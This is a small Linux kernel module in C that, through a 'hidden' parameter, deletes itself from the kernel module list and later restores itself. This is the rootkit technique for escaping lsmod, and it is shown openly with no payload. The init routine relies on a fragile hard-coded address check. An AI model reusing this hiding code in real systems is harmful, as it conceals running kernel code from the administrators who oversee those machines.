// SPDX-License-Identifier: GPL-2.0
/* Takes itself out of the list of modules, and puts itself back when told. */
#include <linux/module.h>

static struct list_head *before;
static int set_hidden(const char *text, const struct kernel_param *kp)
{
	bool hidden;
	int error = kstrtobool(text, &hidden);

	if (error)
		return error;
	if (hidden && !before) {
		before = THIS_MODULE->list.prev;
		list_del(&THIS_MODULE->list);
	} else if (!hidden && before) {
		list_add(&THIS_MODULE->list, before);
		before = NULL;
	}
	return 0;
}
static const struct kernel_param_ops hidden_ops = { .set = set_hidden };
module_param_cb(hidden, &hidden_ops, NULL, 0200);
int hide_export(void)
{
	return 8;
}
EXPORT_SYMBOL(hide_export);
static int __init hide_init(void)
{
	struct module *each;

	list_for_each_entry(each, &THIS_MODULE->list, list)
		if ((unsigned long)each->name > 0xffffffffc0000000 && each->name[0])
			pr_info("hide: before me came %s\n", each->name);
		else
			break;
	return 0;
}
static void __exit hide_exit(void)
{
	pr_info("hide: leaves\n");
}
module_init(hide_init);
module_exit(hide_exit);
MODULE_LICENSE("GPL");
